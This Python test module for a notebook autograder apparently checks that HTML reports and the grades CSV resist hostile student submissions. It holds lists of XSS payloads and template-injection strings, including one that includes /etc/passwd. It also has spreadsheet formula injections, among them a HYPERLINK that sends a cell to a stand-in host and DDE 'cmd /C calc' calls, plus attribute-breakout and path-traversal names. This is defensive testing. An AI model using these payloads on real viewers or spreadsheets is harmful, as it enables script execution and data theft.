"""Attacks on whoever opens a report or a table: TAs in a browser, instructors in a spreadsheet."""

from __future__ import annotations

import base64
import copy
import csv
import io
from collections.abc import Callable
from typing import Any

from tests.adversarial.harness import (
    FULL_MARKS,
    Batch,
    Build,
    Case,
    Expect,
    as_bytes,
    bytes_of,
    code_cell,
    release_notebook,
    solved,
    zip_of,
)

XSS = (
    "<script>document.title='OWNED'</script>",
    "<img src=x onerror=\"document.title='OWNED'\">",
    "<svg onload=\"document.title='OWNED'\"><use href='data:image/svg+xml;base64,PHN2Zy8+'/></svg>",
    "<iframe srcdoc=\"<script>parent.document.title='OWNED'</script>\"></iframe>",
    "<a href=\"javascript:document.title='OWNED'\">full marks</a>",
    "<form action='http://127.0.0.1:9/'><button autofocus>sign in again</button></form>",
    "<style>.chip.failed{display:none}</style><link rel=stylesheet href='//127.0.0.1:9/x.css'>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'><base href='http://127.0.0.1:9/'>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></math>",
    "</pre></div></main></body><script>document.title='OWNED'</script><!--",
    "<div style='position:fixed;inset:0;background:#fff' id=main class=score>10 / 10</div>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}<%= 7*7 %>",
    "\u202etxet desrever\u202c \u2066hidden\u2069 \x1b]8;;http://127.0.0.1:9/\x07x\x1b]8;;\x07 \x1b[2J\0",
)
PNG_WITH_SCRIPT = base64.b64encode(b"\x89PNG\r\n\x1a\n<script>alert(1)</script>").decode()
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
SVG_AS_PNG = base64.b64encode(SVG.encode()).decode()

SHOW = f"""
from IPython.display import display
pieces = {XSS!r}
for piece in pieces:
    print(piece)
    display({{"text/html": piece, "text/plain": piece}}, raw=True)
    display({{"text/markdown": piece + " [x](javascript:alert(1)) ![x](http://127.0.0.1:9/x.png)"}}, raw=True)
"""
TYPES = f"""
from IPython.display import display
script = "document.title = 'OWNED'"
for data in (
    {{"application/javascript": script}}, {{"text/javascript": script}}, {{"image/svg+xml": {SVG!r}}},
    {{"application/vnd.jupyter.widget-view+json": {{"model_id": "x", "version_major": 2}}}},
    {{"application/vnd.vega.v5+json": {{"signals": [{{"update": script}}]}}}},
    {{"application/vnd.plotly.v1+json": {{"layout": {{"title": "<script>x</script>"}}}}}},
    {{"image/png": {SVG_AS_PNG!r}}}, {{"image/png": {PNG_WITH_SCRIPT!r}}},
    {{"image/jpeg": "x' onerror='alert(1)"}}, {{"image/png": "data:text/html,<script>x</script>"}},
    {{"text/html": ["<script>", "x", "</script>"]}}, {{"text/latex": r"\\href{{javascript:alert(1)}}{{x}}"}},
    {{"<img src=x onerror=alert(1)>/x": "y"}}, {{"application/pdf": "JVBERi0="}},
):
    display(data, raw=True)
"""
ERRORS = f"""
name = "<img src=x onerror=alert(1)>"
raise type(name, (Exception,), {{}})({" ".join(XSS)!r})
"""


def notebook(change: Callable[[dict[str, Any]], object], name: str = "lab.ipynb") -> Build:
    """Correct work in a notebook of this name in which something was changed."""

    def files() -> dict[str, bytes]:
        made = copy.deepcopy(release_notebook())
        change(made)
        return {name: as_bytes(made)}

    return zip_of(files)


def prose(made: dict[str, Any]) -> None:
    for number, piece in enumerate(XSS):
        text = f"# {piece}\n\n[x]({piece}) ![y](http://127.0.0.1:9/y) <http://127.0.0.1:9/>\n\n[z]: {piece}"
        cell = code_cell(text, f"prose-{number}") | {"cell_type": "markdown"}
        made["cells"].append({key: cell[key] for key in ("cell_type", "id", "metadata", "source")})
    raw = {"cell_type": "raw", "id": "raw", "metadata": {"format": "text/html"}, "source": XSS[0]}
    made["cells"].append(raw)


def stored(made: dict[str, Any]) -> None:
    outputs: list[dict[str, Any]] = [
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": piece, "text/plain": piece}}
        for piece in XSS
    ]
    outputs.append({"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": SVG}})
    outputs.append({"output_type": "error", "ename": XSS[0], "evalue": XSS[1], "traceback": list(XSS)})
    cell = next(cell for cell in made["cells"] if cell["cell_type"] == "code")
    cell["outputs"] = outputs
    cell["metadata"]["tags"] = list(XSS)
    made["metadata"]["title"] = XSS[0]
    made["cells"].append(code_cell("print(1)", XSS[0]) | {"metadata": {"nbgrader": {"grade_id": XSS[1]}}})


def other_files() -> dict[str, bytes]:
    """Correct work, and notebooks and files whose names are markup or formulas."""
    empty = as_bytes({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    return {
        "lab.ipynb": as_bytes(release_notebook()),
        "<img src=x onerror=alert(1)>.ipynb": empty,
        '=HYPERLINK("http:127.0.0.1","marks").ipynb': empty,
        "x;=1+1;.ipynb": empty,
        '+1,"=2".zip': b"PK\x05\x06" + bytes(18),
        "<svg onload=alert(1)>.zip": b"PK\x05\x06" + bytes(18),
        "{{ 7 * 7 }}.zip": b"PK\x05\x06" + bytes(18),
    }


FORMULAS = (
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    'x","=1+1',
    'x;=1+1;"=2"',
    "%3D1+1",
    "ab\n=1+1,10,10",
)

MARKUP = (
    Case(
        id="D07-html",
        title="Print and display HTML with scripts, frames, forms, styles and escapes of terminals.",
        promise="readers",
        build=solved([SHOW]),
        expect=Expect(checks=FULL_MARKS),
    ),
    Case(
        id="D07-types",
        title="Display scripts, SVG, widgets and pictures that are none.",
        promise="readers",
        build=solved([TYPES]),
        expect=Expect(checks=FULL_MARKS),
    ),
    Case(
        id="D07-errors",
        title="Raise an error whose name and words are markup.",
        promise="readers",
        build=solved([ERRORS]),
        expect=Expect(checks=FULL_MARKS, outcome="cell_failed"),
    ),
    Case(
        id="D07-markdown",
        title="Write markup, links and remote pictures into Markdown and raw cells.",
        promise="readers",
        build=notebook(prose),
        expect=Expect(checks=FULL_MARKS),
    ),
    Case(
        id="D07-stored",
        title="Hand in a notebook whose stored outputs, ids, tags and grade ids are markup.",
        promise="readers",
        build=notebook(stored),
        expect=Expect(checks=FULL_MARKS),
    ),
    Case(
        id="D07-file-names",
        title="Give files and notebooks names that are markup, templates and formulas.",
        promise="readers",
        build=zip_of(other_files),
        expect=Expect(checks=FULL_MARKS, flagged="onerror"),
    ),
    Case(
        id="D07-student",
        title="Be called by a name that is markup.",
        promise="readers",
        build=solved(),
        expect=Expect(checks=FULL_MARKS),
        student="<script>document.title='OWNED'</script>",
    ),
    Case(
        id="D07-attribute",
        title="Be called by a name that ends an attribute and begins another.",
        promise="readers",
        build=bytes_of(b"no archive"),
        expect=Expect(status="rejected"),
        student="x\" onmouseover='alert(1)' y=\"../../../../etc",
    ),
)

TABLES = (
    Case(
        id="D09-graded",
        title="Be called by a formula that sends the table's first cell away.",
        promise="readers",
        build=solved(),
        expect=Expect(checks=FULL_MARKS),
        student=FORMULAS[0],
    ),
    *(
        Case(
            id=f"D09-name-{number}",
            title=f"Be called by a formula or a broken row, variant {number}.",
            promise="readers",
            build=bytes_of(f"no archive {number}".encode(), name='=1+1,"=2";=3.zip'),
            expect=Expect(status="rejected"),
            student=formula,
        )
        for number, formula in enumerate(FORMULAS[1:], start=1)
    ),
)

CASES: tuple[Case, ...] = (*MARKUP, *TABLES)


def check(batch: Batch) -> None:
    """No cell of a table is a formula, wherever it is split; pandas reads back every row."""
    import pandas as pd

    text = (batch.out / "grades.csv").read_text()
    table = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert len(table) == len(batch.attacks) + len(set(map(id, batch.honest.values())))
    assert set(table["status"]) <= {"graded", "rejected"}
    for row in table.itertuples(index=False):
        assert not any(is_formula(str(cell)) for cell in row), row
    for separator in (",", ";", "\t", "|"):
        for cells in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            assert not any(is_formula(cell) for cell in cells), (separator, cells)


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would calculate this cell. A negative number is one of ours."""
    return cell.lstrip(' "\u00a0\t\r\n').startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
